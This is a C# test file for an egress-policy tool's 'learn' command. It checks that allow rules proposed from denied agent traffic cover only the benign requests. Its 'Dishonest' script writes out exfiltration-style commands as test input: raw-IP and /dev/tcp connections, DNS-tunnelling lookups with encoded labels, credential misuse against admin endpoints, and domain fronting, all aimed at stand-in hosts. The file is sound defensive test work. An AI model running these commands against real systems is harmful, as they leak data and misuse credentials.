using System.Net;
using System.Text.Json;
using Gatehouse.TestKit;

namespace Gatehouse.Topology.Tests;

/// <summary><c>gatehouse policy learn</c>: from what a session was denied to a policy under which the same session is not, and which allows nothing else.</summary>
public abstract class LearnTests(bool unprivileged) : IAsyncLifetime
{
    private readonly StandInDns _dns = new(IPAddress.Loopback);
    private readonly TestCertificates _certificates = new();
    private EnclosureSite _site = null!;
    private TestOrigin _tls = null!, _plain = null!;
    private string _folder = "";

    private string PolicyFile => Path.Combine(_folder, "gatehouse.yaml");

    public async Task InitializeAsync()
    {
        _site = await EnclosureSite.CreateAsync(unprivileged);
        _tls = await TestOrigin.StartAsync(_certificates.CreateLeaf("lib.test", "allowed.test"));
        _plain = await TestOrigin.StartAsync();
        _folder = _site.CreateWorkspace("learning");
        _site.Installation.Environment["DnsResolver__Upstreams__0"] = _dns.EndPoint.ToString();
        // Names may mean this machine only where a rule names it; so the stand-ins are reached as if they were far away.
        await File.WriteAllTextAsync(PolicyFile, (await File.ReadAllTextAsync(PolicyFile)).Replace("egress:\n  allow:\n",
            $"# what the agent may reach\negress:\n  allow: # least first\n    - {{ address: 127.0.0.1/32, ports: [{_tls.EndPoint.Port}, {_plain.EndPoint.Port}] }} # stand-ins\n", StringComparison.Ordinal));
    }

    public async Task DisposeAsync()
    {
        await _site.DisposeAsync();
        await _tls.DisposeAsync();
        await _plain.DisposeAsync();
        _dns.Dispose();
        _certificates.Dispose();
    }

    private string Honest => $$"""
        get() { curl -sk --max-time 8 -o /dev/null "$@"; }
        get https://allowed.test/; get --noproxy '*' https://allowed.test/
        get https://lib.test:{{_tls.EndPoint.Port}}/twice; get https://lib.test:{{_tls.EndPoint.Port}}/twice
        get https://registry.test/
        get 'http://plain.test/a/b?c'; get http://plain.test:{{_plain.EndPoint.Port}}/plain
        get --noproxy '*' https://direct.test/
        get --noproxy '*' https://allowed.test:9443/
        timeout 3 bash -c 'exec 3<>/dev/tcp/allowed.test/5432'
        get https://allowed.test:2222/
        getent hosts looked.test
        true
        """;

    private const string Dishonest = """

        get https://203.0.113.9/; get http://3405803785:8080/; get --noproxy '*' https://203.0.113.9/; timeout 3 bash -c 'exec 3<>/dev/tcp/203.0.113.9/22'
        for i in $(seq 20); do dig +short +tries=1 +time=2 part$i.drop.test > /dev/null; get https://part$i.pour.test/; done
        dig +short +tries=1 +time=2 aaaaaaaabbbbbbbbccccccccddddddddeeeeeeee.long.test > /dev/null
        dig +short +tries=1 +time=2 TXT c2vjcmv0.text.test > /dev/null
        get -X DELETE $API_URL/v1/whoami; get $API_URL/v1/admin
        get --connect-to front.test:443:allowed.test:443 https://front.test/
        true
        """;

    private async Task<string> SessionAsync(string script)
    {
        var result = await _site.Installation.ScriptAsync(_folder, script);
        Assert.True(result.ExitCode == 0, result.ToString());
        var sessions = await _site.Installation.RunAsync(_folder, ["sessions", "--json", "--limit", "1"]);
        return JsonDocument.Parse(sessions.Output.Split('\n')[0]).RootElement.GetProperty("session").GetString()!;
    }

    /// <summary>Gates deliver a moment after they decided; the seal comes last.</summary>
    private async Task<string[]> DeniedAsync(string session)
    {
        var last = -1;
        for (var i = 0; i < 30; i++)
        {
            var log = await _site.Installation.RunAsync(_folder, ["log", session, "--json", "--verdict", "denied", "--limit", "5000"]);
            var lines = log.Output.Split('\n', StringSplitOptions.RemoveEmptyEntries);
            if (lines.Length == last)
                return [.. lines.Select(line => JsonDocument.Parse(line).RootElement.GetProperty("subject").GetString()!).Distinct()];
            last = lines.Length;
            await Task.Delay(700);
        }

        throw new InvalidOperationException("the record does not come to rest");
    }

    private Task<CommandResult> LearnAsync(string session, params string[] more) =>
        _site.Installation.RunAsync(_folder, ["policy", "learn", session, .. more]);

    /// <summary>What was tried; and what was only looked up, as everything is by programs that use no proxy.</summary>
    private string[] Learned => [.. Tried, .. s_lookedUp];

    private static readonly string[] s_lookedUp = ["{ host: direct.test, ports: [443] }", "{ host: looked.test, ports: [443] }"];

    private string[] Tried =>
    [
        "{ host: allowed.test, ports: [2222] }", "{ host: allowed.test, ports: [5432] }", "{ host: allowed.test, ports: [9443] }",
        $"{{ host: lib.test, ports: [{_tls.EndPoint.Port}] }}", "{ host: plain.test, ports: [80] }",
        $"{{ host: plain.test, ports: [{_plain.EndPoint.Port}] }}", "{ host: registry.test, ports: [443] }",
    ];

    private static string[] Added(CommandResult diff) => [.. diff.Output.Split('\n').Where(line => line.StartsWith('+') && !line.StartsWith("+++", StringComparison.Ordinal)).Select(line => line[1..].Trim(' ', '-')).Order(StringComparer.Ordinal)];

    [Fact]
    public async Task Learned_SameSessionAgain_HasNoDenial_AndNothingElseIsOpen()
    {
        var before = await File.ReadAllTextAsync(PolicyFile);
        var first = await SessionAsync(Honest);
        var denied = await DeniedAsync(first);
        foreach (var subject in new[] { $"lib.test:{_tls.EndPoint.Port}", "registry.test:443", "GET http://plain.test:80/a/b", "direct.test A", "looked.test A", "allowed.test:2222" })
            Assert.Contains(subject, denied);
        Assert.Empty(_tls.Requests);
        Assert.Empty(_plain.Requests);
        Assert.Empty(_dns.Asked);

        var tried = await LearnAsync(first);
        Assert.True(tried.ExitCode == 0, tried.ToString());
        Assert.Equal(Tried.Order(StringComparer.Ordinal), Added(tried));
        Assert.Contains("# egress.allow: - { host: looked.test, ports: [443] }   # only its name was looked up: port 443 is a guess", tried.Output, StringComparison.Ordinal);

        var shown = await LearnAsync(first, "--lookups");
        Assert.True(shown.ExitCode == 0, shown.ToString());
        Assert.Equal(Learned.Order(StringComparer.Ordinal), Added(shown));
        Assert.Contains("looked.test, ports: [443] }   # only its name was looked up: port 443 is a guess", shown.Output, StringComparison.Ordinal);
        Assert.DoesNotContain(shown.Output.Split('\n'), line => line.StartsWith('-') && !line.StartsWith("---", StringComparison.Ordinal));
        Assert.Equal(before, await File.ReadAllTextAsync(PolicyFile));

        var written = await LearnAsync(first, "--lookups", "--write");
        Assert.Equal(shown.Output, written.Output);
        var after = await File.ReadAllTextAsync(PolicyFile);
        Assert.Equal(before, string.Join('\n', after.Split('\n').Where(line => !Learned.Contains(line.Trim(' ', '-')))));
        Assert.Equal(Learned.Length, after.Split('\n').Length - before.Split('\n').Length);

        var second = await SessionAsync(Honest);
        Assert.NotEqual(first, second);
        Assert.Empty(await DeniedAsync(second));
        Assert.Equal(2, _tls.Requests.Count(request => request.PathAndQuery == "/twice"));
        Assert.Equal("/plain", Assert.Single(_plain.Requests).PathAndQuery);
        Assert.Equal("The session was denied nothing.\n", (await LearnAsync(second)).Error);

        _tls.Requests.Clear();
        _plain.Requests.Clear();
        var asked = _dns.Asked.Count;
        var third = await SessionAsync($$"""
            get() { curl -sk --max-time 5 -o /dev/null "$@"; }
            get https://other.lib.test:{{_tls.EndPoint.Port}}/; get https://test:{{_tls.EndPoint.Port}}/; get https://untried.test/
            get http://lib.test:{{_plain.EndPoint.Port}}/; get https://plain.test/; get http://registry.test/; get https://lib.test/
            get https://198.51.100.7:{{_tls.EndPoint.Port}}/; get --noproxy '*' https://198.51.100.7/
            get --noproxy '*' https://lib.test:9444/; get --noproxy '*' https://untried.test/; get https://looked.test:8443/
            true
            """);
        denied = await DeniedAsync(third);
        foreach (var subject in new[]
        {
            $"other.lib.test:{_tls.EndPoint.Port}", $"test:{_tls.EndPoint.Port}", "untried.test:443", $"GET http://lib.test:{_plain.EndPoint.Port}/", "plain.test:443",
            "GET http://registry.test:80/", "lib.test:443", $"198.51.100.7:{_tls.EndPoint.Port}", "198.51.100.7:443", "untried.test A", "looked.test:8443",
        })
        {
            Assert.Contains(subject, denied);
        }

        Assert.Contains(denied, subject => subject.StartsWith("tcp 198.18.", StringComparison.Ordinal) && subject.EndsWith(":9444", StringComparison.Ordinal));
        Assert.Empty(_tls.Requests);
        Assert.Empty(_plain.Requests);
        Assert.Equal(asked, _dns.Asked.Count);
    }

    [Fact]
    public async Task Hostile_IsToldWithWhy_AndNotWritten()
    {
        var first = await SessionAsync(Honest + Dishonest);
        var before = await DeniedAsync(first);
        var written = await LearnAsync(first, "--lookups", "--write");
        Assert.True(written.ExitCode == 0, written.ToString());
        Assert.Equal(Learned.Order(StringComparer.Ordinal), Added(written));
        var comments = written.Output.Split('\n').Where(line => line.StartsWith('#')).ToArray();
        foreach (var (rule, why) in new[]
        {
            ("- { address: 203.0.113.9/32, ports: [443] }", "a raw address"), ("- { address: 203.0.113.9/32, ports: [8080] }", "a raw address"),
            ("- { address: 203.0.113.9/32, ports: [22] }", "a raw address"),
            ("- { host: \"*.drop.test\", ports: [443] }", "20 different names"), ("- { host: \"*.pour.test\", ports: [443] }", "20 different names"),
            ("aaaaaaaabbbbbbbbccccccccddddddddeeeeeeee.long.test", "a long label"), ("c2vjcmv0.text.test", "other records than addresses"),
            ("secrets (api) allow: - { method: DELETE, path: /v1/whoami }", "uses the credential"), ("secrets (api) allow: - { method: GET, path: /v1/admin }", "uses the credential"),
            ("# no rule changes this: egress names-disagree", "tried 1 times"),
        })
        {
            Assert.True(comments.Any(line => line.Contains(rule, StringComparison.Ordinal) && line.Contains(why, StringComparison.Ordinal)), $"{rule}\n{written}");
        }

        var second = await DeniedAsync(await SessionAsync(Honest + Dishonest));
        string[] cured = ["lib.test:", "registry.test:", "plain.test:", "direct.test", "looked.test", "allowed.test:2222", "allowed.test:5432", "allowed.test:9443"];
        Assert.DoesNotContain(second, subject => cured.Any(part => subject.Contains(part, StringComparison.Ordinal)));
        foreach (var left in before.Where(subject => new[] { "203.0.113.9", "drop.test", "pour.test", "long.test", "text.test", "DELETE", "admin" }.Any(part => subject.Contains(part, StringComparison.Ordinal))))
            Assert.Contains(left, second);
        Assert.DoesNotContain(_dns.Asked, name => name.EndsWith("drop.test", StringComparison.Ordinal) || name.EndsWith("pour.test", StringComparison.Ordinal));
    }
}

public sealed class LearnAsRootTests() : LearnTests(unprivileged: false);

public sealed class LearnUnprivilegedTests() : LearnTests(unprivileged: true);
